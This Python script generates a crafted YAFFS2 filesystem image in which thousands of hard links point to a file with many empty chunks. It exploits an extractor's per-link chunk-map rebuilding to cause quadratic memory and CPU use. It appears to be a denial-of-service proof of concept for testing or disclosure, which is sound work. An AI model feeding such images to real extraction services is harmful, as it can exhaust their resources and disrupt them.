#!/usr/bin/env python3
"""YAFFS2 (512+16 geometry): one regular file with C empty data chunks and H
hard links to it. Yaffs2::extract's `file_of(o.equiv)` collects a fresh
BTreeMap of the file's chunks for every hard link, so listing holds about
H*C map entries. Chunks carry 0 bytes and the file size is 0: nothing is
produced, no byte budget is charged."""
import struct, sys
H = int(sys.argv[1]) if len(sys.argv) > 1 else 3000
C = int(sys.argv[2]) if len(sys.argv) > 2 else H
out = sys.argv[3] if len(sys.argv) > 3 else f"/tmp/yaffs2_hardlink_clone_{H}x{C}.bin"
PAGE, SPARE = 512, 16
img = bytearray()
def chunk(page, obj, chunk_id, n):
    p = bytearray(page); p += b'\xff' * (PAGE - len(p))
    spare = struct.pack('<IIII', 0x1000, obj, chunk_id, n)
    img.extend(p); img.extend(spare)
def header(kind, parent, name, equiv=0):
    h = bytearray(PAGE)
    struct.pack_into('<II', h, 0, kind, parent)
    h[8:10] = b'\xff\xff'
    h[10:10+len(name)] = name
    struct.pack_into('<I', h, 268, 0o100644)
    struct.pack_into('<I', h, 292, 0)           # size low
    struct.pack_into('<I', h, 296, equiv)
    struct.pack_into('<I', h, 496, 0xffffffff)  # size high unused
    return bytes(h)
chunk(header(1, 1, b'f'), 2, 0, 0)
for c in range(1, C + 1):
    chunk(b'', 2, c, 0)
for i in range(H):
    chunk(header(4, 1, b'h%d' % i, equiv=2), 3 + i, 0, 0)
open(out, 'wb').write(img)
print(out, len(img))
